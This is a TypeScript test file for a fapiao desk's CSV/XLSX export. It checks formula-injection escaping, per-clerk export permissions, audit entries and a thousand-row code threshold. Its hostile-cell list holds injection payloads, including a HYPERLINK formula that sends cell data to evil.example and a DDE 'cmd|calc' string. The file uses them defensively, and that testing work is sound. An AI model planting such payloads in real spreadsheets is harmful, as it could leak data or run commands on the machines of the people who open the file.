// Work that goes out as a sheet: what is in it, who may have which, hostile cells, many rows, and the trail that it leaves.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { SHEET_COLUMNS } from '../../../../domain/worklist';
import { sheetWords } from '../../../../bot/desk/sheet-words';
import { createBoard } from '../../../../services/desk/board';
import { asItWas, csvOf, harmless } from '../../../../services/desk/sheet/csv';
import { type Exporting, exportSheet } from '../../../../services/desk/sheet/export';
import { xlsxOf } from '../../../../services/desk/sheet/xlsx';
import type { SheetRow } from '../../../../services/desk/sheet/rows';
import { openZip } from '../../../../services/import/file/zip';
import { readAudit } from '../../../../services/staff/audit';
import { acts, application, BOSS, HAN_MEI, LI_LEI, numberOf, seedApplications } from '../../../support/desk-work';
import { grounds, type Name } from '../../../support/canaries';
import { createWorldOn, type Ground, type World } from '../../../support/fapiao-world';
import { APPLICATIONS } from '../../../../services/desk/rows';

const words = sheetWords('zh-CN');
const folder = mkdtempSync(join(tmpdir(), 'fapiao-sheet-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function whole(pieces: AsyncIterable<Buffer>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(piece);
  return Buffer.concat(all);
}
async function* batch(...rows: SheetRow[]) {
  yield rows;
}
const rowWith = (cells: Partial<SheetRow>): SheetRow =>
  ({ ...Object.fromEntries(SHEET_COLUMNS.map((name) => [name, ''])), ...cells }) as SheetRow;
const records = (csv: Buffer): string[][] =>
  parse(csv.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];

describe('hostile cells', () => {
  const HOSTILE = [
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝cmd|calc',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '"=1+1',
  ];

  test('no cell of a CSV begins like a formula; what is none stays as it is to the character', async () => {
    const plain = ['91310115591693856A', '6222020200012345678', '021-55001234', '王敏', "O'Neill", '1,368.00', ''];
    const csv = await whole(csvOf(batch(...[...HOSTILE, ...plain].map((title) => rowWith({ title }))), words));
    const at = SHEET_COLUMNS.indexOf('title');
    const cells = records(csv)
      .slice(1)
      .map((record) => record[at] ?? '');
    expect(cells.slice(0, HOSTILE.length).filter((cell) => /^[=+\-@\t\r＝]/.test(cell))).toEqual([]);
    expect(cells.slice(HOSTILE.length)).toEqual(plain);
    expect([...HOSTILE, ...plain].map((text) => asItWas(harmless(text)))).toEqual([...HOSTILE, ...plain]);
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  test('every cell of a workbook is text, digits too, and none is a formula; only the sum is a number', async () => {
    const odd = ['_x000D_', '<c>&"', 'a\u0001b', '\ud800', '00012345678901234567'];
    const rows = [...HOSTILE, ...odd].map((title) =>
      rowWith({ title, taxId: '123456789012345678', total: { fen: 5 } }),
    );
    const file = join(folder, 'hostile.xlsx');
    writeFileSync(file, await whole(xlsxOf(batch(...rows), words)));
    const zip = await openZip(file);
    const xml = (await whole(zip.part('xl/worksheets/sheet1.xml'))).toString('utf8');
    zip.close();
    expect(xml).not.toMatch(/<f[ >]/);
    const numbers = [...xml.matchAll(/<v>([^<]*)<\/v>/g)].map(([, value]) => value);
    expect(new Set(numbers)).toEqual(new Set(['0.05']));
    expect(xml).toContain('<is><t xml:space="preserve">123456789012345678</t></is>');
    expect(xml).toContain('_x005F_x000D_');
    expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(xml)).toBe(false);
  });
});

const asked = (more: Partial<Exporting> = {}): Exporting => ({
  format: 'csv',
  filter: {},
  staff: BOSS,
  strong: false,
  words,
  ...more,
});

async function exportedIn({ deps }: World<Ground>, more: Partial<Exporting>): Promise<string | SheetRow[]> {
  const { store, now, newId } = deps;
  const board = createBoard(APPLICATIONS, { store, now, newId });
  try {
    const made = await exportSheet(deps, board, asked(more));
    if (!made.ok) return made.reason.code;
    const rows: SheetRow[] = [];
    for await (const some of made.batches) rows.push(...some);
    return rows;
  } finally {
    board.close();
  }
}

describe.each(Object.keys(grounds) as Name[])('on %s', (name) => {
  let ground: Ground;
  let world: World<Ground>;
  beforeEach(async () => {
    ground = await grounds[name]();
    world = await createWorldOn(ground);
  });
  afterEach(() => ground.remove());

  const exported = (more: Partial<Exporting> = {}) => exportedIn(world, more);

  test('has a row for each fapiao with all that is needed to issue it', async () => {
    await seedApplications(world.deps.store, [
      application(10, {
        kind: 'paper-special',
        bills: [
          { bill: 'B-1', order: 'O-1', period: '2026-10', amount: 68_400 },
          { bill: 'B-2', order: 'O-1', period: '2026-11', amount: 136_801 },
        ],
        amount: 205_201,
        buyer: {
          kind: 'enterprise',
          name: '=上海青禾餐饮管理有限公司',
          taxId: '91310115591693856A',
          address: '上海市浦东新区世纪大道1200号',
          phone: '+86 21-55001234',
          bank: '招商银行上海分行',
          account: '6222020200012345678',
        },
      }),
    ]);
    const rows = (await exported()) as SheetRow[];
    expect(rows.map(({ nth, bills, total }) => [nth, bills, total])).toEqual([
      ['1/2', 'B-1', { fen: 68_400 }],
      ['2/2', 'B-2', { fen: 136_801 }],
    ]);
    expect(rows[0]).toMatchObject({
      number: numberOf(10),
      fapiao: '',
      kind: '纸质专票',
      state: '待处理',
      taxId: '91310115591693856A',
      phone: '+86 21-55001234',
      account: '6222020200012345678',
      shipTo: '广东省深圳市南山区科苑路1号',
      recipient: '王敏',
      method: '顺丰',
    });
  });

  test('a clerk gets what they have claimed and nothing else, by filter and by number; a colleague’s claim opens nothing', async () => {
    await seedApplications(world.deps.store, [application(1), application(2), application(3)]);
    expect(await exported({ staff: LI_LEI })).toBe('exportNoneOwn');
    await acts(world.deps, LI_LEI, numberOf(1), 'claim');
    await acts(world.deps, HAN_MEI, numberOf(2), 'claim');
    const rows = (await exported({ staff: LI_LEI })) as SheetRow[];
    expect(rows.map(({ number }) => number)).toEqual([numberOf(1)]);
    expect(await exported({ staff: LI_LEI, numbers: [numberOf(1), numberOf(2)] })).toBe('exportOwn');
    expect(await exported({ staff: LI_LEI, numbers: [numberOf(3)] })).toBe('exportOwn');
    const all = (await exported({ numbers: [numberOf(3), numberOf(2)] })) as SheetRow[];
    expect(all.map(({ number }) => number)).toEqual([numberOf(3), numberOf(2)]);
  });

  test('stands in the audit before its first row, with who, what and how many; what was refused does not', async () => {
    await seedApplications(world.deps.store, [application(1), application(2)]);
    const { store, now, newId } = world.deps;
    const board = createBoard(APPLICATIONS, { store, now, newId });
    await exportSheet(world.deps, board, asked({ staff: LI_LEI, numbers: [numberOf(1)] }));
    const made = await exportSheet(world.deps, board, asked());
    board.close();
    expect(made.ok).toBe(true);
    const { entries } = await readAudit(world.deps, {});
    expect(entries.map(({ who, what, after }) => [who, what, after?.count])).toEqual([['Zhao', 'sheet.export', 2]]);
  });
});

test('over a thousand needs a fresh code; a thousand does not', async () => {
  const world = await createWorldOn(await grounds.SQLite());
  try {
    const many = Array.from({ length: 1_001 }, (_, n) => application(n));
    await seedApplications(world.deps.store, many);
    expect(await exportedIn(world, {})).toBe('codeNeeded');
    expect((await exportedIn(world, { strong: true })).length).toBe(1_001);
    const numbers = many.slice(1).map(({ number }) => number);
    expect((await exportedIn(world, { numbers })).length).toBe(1_000);
  } finally {
    await world.temp.remove();
  }
});
